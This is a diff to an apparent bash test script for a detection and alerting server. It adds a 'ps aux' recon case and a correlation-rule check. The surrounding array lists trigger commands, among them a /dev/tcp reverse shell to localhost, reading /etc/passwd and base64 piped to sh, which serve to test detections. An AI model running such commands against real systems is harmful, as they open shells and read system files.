@@ -22,6 +22,7 @@ declare -A expect=(
 	[recon_whoami_id]="whoami"
 	[recon_uname_all]="uname -a"
 	[recon_read_passwd]="cat /etc/passwd"
+	[recon_ps_process_list]="ps aux"
 	[reverse_shell_dev_tcp]="timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"
 	[exec_from_hidden_tmp_folder]="cp /usr/bin/true $work/.x && $work/.x"
 	[base64_decode_piped_to_shell]="bash -c 'echo ZWNobyBoaQo= | base64 -d | sh'"
@@ -35,6 +36,12 @@ for f in "${!expect[@]}"; do
 	ms=$(wait_alert "$id" 10) || fail "no alert for $f ($id) within 10 s after: ${expect[$f]}"
 	ok "alert $f ($id) after ${ms} ms of waiting"
 done
+
+# four different discovery tools by one user within two minutes: the
+# correlation rule fires in the server (windows kept per tenant)
+id=$(rule_id recon_burst_by_user)
+ms=$(wait_alert "$id" 10) || fail "no correlation alert recon_burst_by_user ($id)"
+ok "correlation alert recon_burst_by_user ($id) after ${ms} ms of waiting"
 
 # the alerts carry the right host, agent and tenant, and the triggering process
 out=$(api GET "/api/v1/alerts?limit=1000")
